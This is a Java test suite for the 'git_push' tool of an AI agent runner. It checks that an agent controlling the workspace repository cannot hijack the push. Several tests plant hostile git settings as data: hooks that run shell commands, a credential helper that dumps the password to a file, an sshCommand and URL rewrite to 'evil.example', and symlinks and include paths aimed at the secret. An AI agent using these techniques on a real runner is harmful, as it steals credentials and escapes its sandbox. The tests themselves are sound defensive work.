package dev.agentoperator.runner.tools.publish;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.agentoperator.runner.tools.ToolContext;
import dev.agentoperator.runner.tools.ToolExecutor;
import dev.agentoperator.runner.tools.ToolRegistry;
import dev.agentoperator.runner.tools.ToolResult;
import dev.agentoperator.runner.tools.ToolSettings;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.concurrent.TimeUnit;
import mockwebserver3.MockResponse;
import mockwebserver3.MockWebServer;
import mockwebserver3.RecordedRequest;
import org.eclipse.jgit.api.Git;
import org.eclipse.jgit.lib.ObjectId;
import org.eclipse.jgit.lib.Repository;
import org.eclipse.jgit.lib.StoredConfig;
import org.eclipse.jgit.revwalk.RevCommit;
import org.eclipse.jgit.storage.file.FileRepositoryBuilder;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * git_push attacked from the workspace: the agent controls every byte of the workspace repository
 * (config, hooks, refs, links), and none of it may steer the push, run code in the runner, leak
 * the credential or read outside the workspace.
 */
class GitPushToolTest {

  private static final ObjectMapper JSON = new ObjectMapper();
  private static final String PASSWORD = "ghp-push-secret-123";
  private static final ToolExecutor NO_SANDBOX =
      (call, context) -> {
        throw new AssertionError("git_push must run in the runner, not the sandbox");
      };

  @TempDir Path root;

  private Path workspace;
  private Path origin;
  private Path decoy;
  private Path credentials;
  private Path marker;
  private final List<ObjectNode> events = new ArrayList<>();
  private RevCommit commit;

  @BeforeEach
  void workspaceWithAgentBranch() throws Exception {
    origin = bare("origin.git");
    decoy = bare("decoy.git");
    marker = root.resolve("agent-code-ran");
    credentials = Files.createDirectories(root.resolve("push-credentials"));
    Files.writeString(credentials.resolve("username"), "bot");
    Files.writeString(credentials.resolve("password"), PASSWORD + "\n");
    workspace = root.resolve("workspace");
    try (Git git = Git.cloneRepository().setURI(origin.toUri().toString())
        .setDirectory(workspace.toFile()).call()) {
      git.checkout().setCreateBranch(true).setName("agent/notes").call();
      Files.writeString(workspace.resolve("NOTES.md"), "notes\n");
      git.add().addFilepattern("NOTES.md").call();
      commit = git.commit().setMessage("Notes").setAuthor("Agent", "a@example.com")
          .setCommitter("Agent", "a@example.com").call();
    }
  }

  @Test
  void shouldPushTheNamedBranchToTheSessionRemoteAndRecordIt() throws Exception {
    ToolResult result = push(settings(origin.toUri().toString()), "agent/notes", false);

    assertThat(result.error()).as(result.content()).isFalse();
    assertThat(result.content()).contains("agent/notes", commit.name(), origin.toUri().toString());
    assertThat(branch(origin, "agent/notes")).isEqualTo(commit.getId());
    assertThat(events).singleElement().satisfies(e -> {
      assertThat(e.path("type").asText()).isEqualTo("git.pushed");
      assertThat(e.path("branch").asText()).isEqualTo("agent/notes");
      assertThat(e.path("commit").asText()).isEqualTo(commit.name());
    });
  }

  @Test
  void shouldRunNoHookPlantedInTheWorkspace() throws Exception {
    Path hooks = workspace.resolve(".git/hooks");
    Files.createDirectories(hooks);
    hook(hooks.resolve("pre-push"));
    hook(hooks.resolve("reference-transaction"));
    Path elsewhere = Files.createDirectories(workspace.resolve("my-hooks"));
    hook(elsewhere.resolve("pre-push"));
    config(c -> c.setString("core", null, "hooksPath", elsewhere.toString()));

    ToolResult result = push(settings(origin.toUri().toString()), "agent/notes", false);

    assertThat(result.error()).as(result.content()).isFalse();
    assertThat(marker).doesNotExist();
  }

  @Test
  void shouldIgnoreUrlRewritesAndRemotesOfTheWorkspaceConfig() throws Exception {
    String remote = origin.toUri().toString();
    config(c -> {
      c.setString("url", decoy.toUri().toString(), "insteadOf", remote);
      c.setString("url", decoy.toUri().toString(), "pushInsteadOf", remote);
      c.setString("remote", "origin", "pushurl", decoy.toUri().toString());
    });

    ToolResult result = push(settings(remote), "agent/notes", false);

    assertThat(result.error()).as(result.content()).isFalse();
    assertThat(branch(origin, "agent/notes")).isEqualTo(commit.getId());
    assertThat(branch(decoy, "agent/notes")).isNull();
  }

  @Test
  void shouldNeverReadTheWorkspaceConfigEvenWhenItIsUnreadable() throws Exception {
    // A config JGit refuses to load, including a secret: the push does not open it.
    Files.writeString(workspace.resolve(".git/config"),
        "[core]\n\trepositoryformatversion = 99\n[include]\n\tpath = "
            + credentials.resolve("password") + "\n");

    ToolResult result = push(settings(origin.toUri().toString()), "agent/notes", false);

    assertThat(result.error()).as(result.content()).isFalse();
    assertThat(branch(origin, "agent/notes")).isEqualTo(commit.getId());
  }

  @Test
  void shouldSendTheSessionCredentialOnlyToTheSessionRemoteAndRunNoHelperOrSshCommand()
      throws Exception {
    try (MockWebServer forge = new MockWebServer()) {
      forge.start();
      for (int i = 0; i < 4; i++) {
        forge.enqueue(new MockResponse.Builder().code(401)
            .addHeader("WWW-Authenticate", "Basic realm=\"git\"").build());
      }
      String remote = forge.url("/acme/app.git").toString();
      Path leak = root.resolve("helper-input");
      config(c -> {
        c.setString("credential", null, "helper", "!f() { cat > " + leak + "; }; f");
        c.setString("core", null, "sshCommand", "sh -c 'touch " + marker + "'");
        c.setString("url", "ssh://git@evil.example/", "insteadOf", remote);
        c.setString("http", null, "proxy", "http://127.0.0.1:9");
        c.setString("http", null, "extraHeader", "X-Leak: yes");
      });

      ToolResult result = push(settings(remote), "agent/notes", false);

      assertThat(result.error()).isTrue();
      assertThat(result.content()).doesNotContain(PASSWORD);
      assertThat(leak).doesNotExist();
      assertThat(marker).doesNotExist();
      List<RecordedRequest> seen = new ArrayList<>();
      RecordedRequest request;
      while ((request = forge.takeRequest(200, TimeUnit.MILLISECONDS)) != null) {
        seen.add(request);
      }
      assertThat(seen).isNotEmpty().allSatisfy(r -> {
        assertThat(r.getUrl().encodedPath()).startsWith("/acme/app.git/");
        assertThat(r.getHeaders().get("X-Leak")).isNull();
      });
      String basic = "Basic " + Base64.getEncoder()
          .encodeToString(("bot:" + PASSWORD).getBytes(StandardCharsets.UTF_8));
      assertThat(seen).anySatisfy(r ->
          assertThat(r.getHeaders().get("Authorization")).isEqualTo(basic));
    }
  }

  @Test
  void shouldRefuseASymlinkedGitDirectoryPointingOutside() throws Exception {
    Path outside = root.resolve("outside");
    try (Git git = Git.cloneRepository().setURI(origin.toUri().toString())
        .setDirectory(outside.toFile()).call()) {
      git.checkout().setCreateBranch(true).setName("agent/notes").call();
    }
    Path dotGit = workspace.resolve(".git");
    org.eclipse.jgit.util.FileUtils.delete(dotGit.toFile(), org.eclipse.jgit.util.FileUtils.RECURSIVE);
    Files.createSymbolicLink(dotGit, outside.resolve(".git"));

    ToolResult result = push(settings(origin.toUri().toString()), "agent/notes", false);

    assertThat(result.error()).isTrue();
    assertThat(result.content()).contains(".git is a symbolic link", "nothing was pushed");
    assertThat(branch(origin, "agent/notes")).isNull();
  }

  @Test
  void shouldRefuseAGitFilePointingOutside() throws Exception {
    Path dotGit = workspace.resolve(".git");
    Path moved = root.resolve("moved.git");
    Files.move(dotGit, moved);
    Files.writeString(dotGit, "gitdir: " + moved + "\n");

    ToolResult result = push(settings(origin.toUri().toString()), "agent/notes", false);

    assertThat(result.error()).isTrue();
    assertThat(result.content()).contains("no .git directory");
    assertThat(branch(origin, "agent/notes")).isNull();
  }

  @Test
  void shouldNotShowASecretThatARefLinkPointsTo() throws Exception {
    Path ref = workspace.resolve(".git/refs/heads/agent/notes");
    Files.delete(ref);
    Files.createSymbolicLink(ref, credentials.resolve("password"));
    Path loose = workspace.resolve(".git/refs/heads/agent/leak");
    Files.writeString(loose, PASSWORD);

    ToolResult linked = push(settings(origin.toUri().toString()), "agent/notes", false);
    ToolResult planted = push(settings(origin.toUri().toString()), "agent/leak", false);

    assertThat(linked.error()).isTrue();
    assertThat(linked.content()).contains("symbolic link").doesNotContain(PASSWORD);
    assertThat(planted.error()).isTrue();
    assertThat(planted.content()).contains("not a plain commit id").doesNotContain(PASSWORD);
  }

  @Test
  void shouldRefuseObjectsBorrowedFromOutsideTheWorkspace() throws Exception {
    Files.writeString(workspace.resolve(".git/objects/info/alternates"),
        decoy.resolve("objects") + "\n");

    ToolResult result = push(settings(origin.toUri().toString()), "agent/notes", false);

    assertThat(result.error()).isTrue();
    assertThat(result.content()).contains("borrows objects");
    assertThat(branch(origin, "agent/notes")).isNull();
  }

  @Test
  void shouldRefuseABranchOutsideTheSessionPatterns() throws Exception {
    ToolResult main = push(settings(origin.toUri().toString()), "master", false);
    ToolResult ref = push(settings(origin.toUri().toString()), "refs/heads/agent/x", false);

    assertThat(main.error()).isTrue();
    assertThat(main.content()).contains("not one this session may push to", "agent/*");
    assertThat(ref.error()).isTrue();
    assertThat(branch(origin, "refs/heads/agent/x")).isNull();
  }

  @Test
  void shouldRefuseAForcedPushUnlessTheSessionAllowsIt() throws Exception {
    ToolResult result = push(settings(origin.toUri().toString()), "agent/notes", true);

    assertThat(result.error()).isTrue();
    assertThat(result.content()).contains("does not allow forced pushes");
    assertThat(branch(origin, "agent/notes")).isNull();
  }

  @Test
  void shouldReportANonFastForwardWithoutReplacingTheRemoteBranch() throws Exception {
    assertThat(push(settings(origin.toUri().toString()), "agent/notes", false).error()).isFalse();
    try (Git git = Git.open(workspace.toFile())) {
      git.commit().setAmend(true).setMessage("Rewritten").setAuthor("Agent", "a@example.com")
          .setCommitter("Agent", "a@example.com").call();
    }

    ToolResult result = push(settings(origin.toUri().toString()), "agent/notes", false);

    assertThat(result.error()).isTrue();
    assertThat(result.content()).contains("not a fast-forward");
    assertThat(branch(origin, "agent/notes")).isEqualTo(commit.getId());
  }

  @Test
  void shouldFailClosedWhenPushIsNotConfigured() throws Exception {
    ToolResult result = push(PublishSettings.none(), "agent/notes", false);

    assertThat(result.error()).isTrue();
    assertThat(result.content()).contains("not configured", "nothing was pushed");
    assertThat(branch(origin, "agent/notes")).isNull();
  }

  @Test
  void shouldOfferThePublishingToolsOnlyWhenTheSessionConfiguresThem() {
    ToolRegistry off = ToolRegistry.standard(ToolSettings.defaults(), PublishSettings.none());
    ToolRegistry on = ToolRegistry.standard(ToolSettings.defaults(),
        settings(origin.toUri().toString()));

    assertThat(off.schemas()).extracting(s -> s.path("function").path("name").asText())
        .doesNotContain("git_push", "open_pull_request");
    assertThat(off.names()).contains("git_push", "open_pull_request");
    assertThat(on.schemas()).extracting(s -> s.path("function").path("name").asText())
        .contains("git_push").doesNotContain("open_pull_request");
  }

  @Test
  void shouldSummariseBranchCommitAndRemoteForTheApprover() {
    ToolRegistry registry = ToolRegistry.standard(ToolSettings.defaults(),
        settings(origin.toUri().toString()));

    String summary = registry.approvalSummary(
        registry.prepare("git_push", "{\"branch\":\"agent/notes\"}"), context());

    assertThat(summary).contains("agent/notes", commit.name(), origin.toUri().toString());
  }

  @Test
  void shouldShowTheApproverADiffstatAgainstTheBaseBranch() throws Exception {
    PublishSettings withBase = PublishSettings.fromEnv(Map.of(
        PublishSettings.PUSH_REMOTE_ENV, origin.toUri().toString(),
        PublishSettings.PUSH_BRANCHES_ENV, "agent/*",
        PublishSettings.PR_PROVIDER_ENV, "github",
        PublishSettings.PR_API_URL_ENV, "https://api.github.com",
        PublishSettings.PR_REPOSITORY_ENV, "acme/app",
        PublishSettings.PR_TOKEN_FILE_ENV, root.resolve("token").toString(),
        PublishSettings.PR_BASE_BRANCH_ENV, "master"));
    ToolRegistry registry = ToolRegistry.standard(ToolSettings.defaults(), withBase);

    String summary = registry.approvalSummary(
        registry.prepare("git_push", "{\"branch\":\"agent/notes\"}"), context());

    assertThat(summary).contains("1 commit, 1 file changed, +1 -0 against master");
  }

  private ToolResult push(PublishSettings settings, String branch, boolean force)
      throws Exception {
    ToolRegistry registry = ToolRegistry.standard(ToolSettings.defaults(), settings);
    String args = JSON.writeValueAsString(Map.of("branch", branch, "force", force));
    return registry.execute(registry.prepare("git_push", args), context(), NO_SANDBOX);
  }

  private ToolContext context() {
    return new ToolContext(workspace, root.resolve("state"), Set.of(),
        (type, data) -> events.add(data.deepCopy().put("type", type)));
  }

  private PublishSettings settings(String remote) {
    return PublishSettings.fromEnv(Map.of(
        PublishSettings.PUSH_REMOTE_ENV, remote,
        PublishSettings.PUSH_BRANCHES_ENV, "agent/*, release-notes",
        PublishSettings.PUSH_CREDENTIALS_DIR_ENV, credentials.toString()));
  }

  private void hook(Path file) throws Exception {
    Files.writeString(file, "#!/bin/sh\ntouch " + marker + "\n");
    Files.setPosixFilePermissions(file, PosixFilePermissions.fromString("rwxr-xr-x"));
  }

  private interface ConfigEdit {
    void apply(StoredConfig config);
  }

  private void config(ConfigEdit edit) throws Exception {
    try (Git git = Git.open(workspace.toFile())) {
      StoredConfig config = git.getRepository().getConfig();
      edit.apply(config);
      config.save();
    }
  }

  private Path bare(String name) throws Exception {
    Path seed = root.resolve(name + "-seed");
    try (Git git = Git.init().setDirectory(seed.toFile()).setInitialBranch("master").call()) {
      Files.writeString(seed.resolve("README"), "hello\n");
      git.add().addFilepattern("README").call();
      git.commit().setMessage("First").setAuthor("O", "o@example.com")
          .setCommitter("O", "o@example.com").call();
    }
    Path bare = root.resolve(name);
    Git.cloneRepository().setURI(seed.toUri().toString()).setDirectory(bare.toFile())
        .setBare(true).call().close();
    return bare;
  }

  private static ObjectId branch(Path bare, String name) throws Exception {
    try (Repository repository = new FileRepositoryBuilder().setGitDir(bare.toFile()).build()) {
      return repository.resolve(name.startsWith("refs/") ? name : "refs/heads/" + name);
    }
  }
}
